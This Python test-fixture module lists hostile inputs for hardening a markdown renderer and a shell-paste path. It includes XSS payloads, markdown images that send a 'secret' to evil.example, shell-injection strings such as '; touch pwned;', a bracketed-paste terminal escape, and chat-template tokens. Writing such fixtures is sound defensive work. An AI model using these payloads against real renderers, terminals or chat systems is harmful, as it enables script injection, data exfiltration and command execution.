"""Texts that try to become code: in a question, in an answer, in a prompt that is pasted into a shell."""

HOSTILE_QUESTION = (
    "<img src=x onerror=alert(1)><script>alert(2)</script> ${alert(3)} {{alert(4)}} **bold** `code` $x$"
)


HOSTILE_ANSWERS = [
    "<script>x</script>",
    "See ``` <img src=https://evil.example/x>",
    r"\`<img src=x onerror=alert(1)>`",
    "``` `` ` `` <b>hi</b> ",
    "`$` $ <img src=x> `",
    "```\n$\n```\n<img src=x>\n```\n$\n```",
    "~~~ ```\n~~~\n<img src=x>",
    "    code\n\n<img src=x>",
    "- ```\n<img src=x>\n```",
    "![x](https://evil.example/?q=secret)",
    "![x][y]\n\n[y]: https://evil.example/?q=secret",
    "[x](javascript:alert(1)) <javascript:alert(1)>",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](https://a.example "title\\" onmouseover=\\"alert(1)")',
    "$<img src=x>$ \\(<img src=x>\\) \\[<img src=x>\\]",
    "%%%LATEX_BLOCK_0%%% \\(<img src=x>\\)",
    "<!-- --><img src=x><!-- -->",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "| a |\n|---|\n| `<img src=x> |\n",
    '```"><img src=x>\ncode',
    "```mermaid\ngraph TD\nA-->B\n```",
]


HOSTILE_PROMPTS = (
    "'; touch pwned; '",
    '"; touch pwned; "',
    "$(touch pwned) `touch pwned` ${IFS} $HOME !! !touch",
    "\nEOF\ntouch pwned\nEOF\n'\"'\"'",
    "'''\nimport os; os.system('touch pwned')\n'''",
    '"""\nimport os; os.system("touch pwned")\n"""',
    "{0} {text} %s %d \\n \\u0041 \\' \\\" \\",
    "\x1b[201~touch pwned\r\n\x9b201~\x7f\x08\x00",
    "\u202eelif\u2066 half \ud800 of \udfff it \u2028 line",
    "</script><img src=x onerror=alert(1)><|im_end|><IMG_CONTEXT>",
    "data:image/png;base64,\ud800image-1.png\ud800",
    "",
    "a" * 200_000,
)
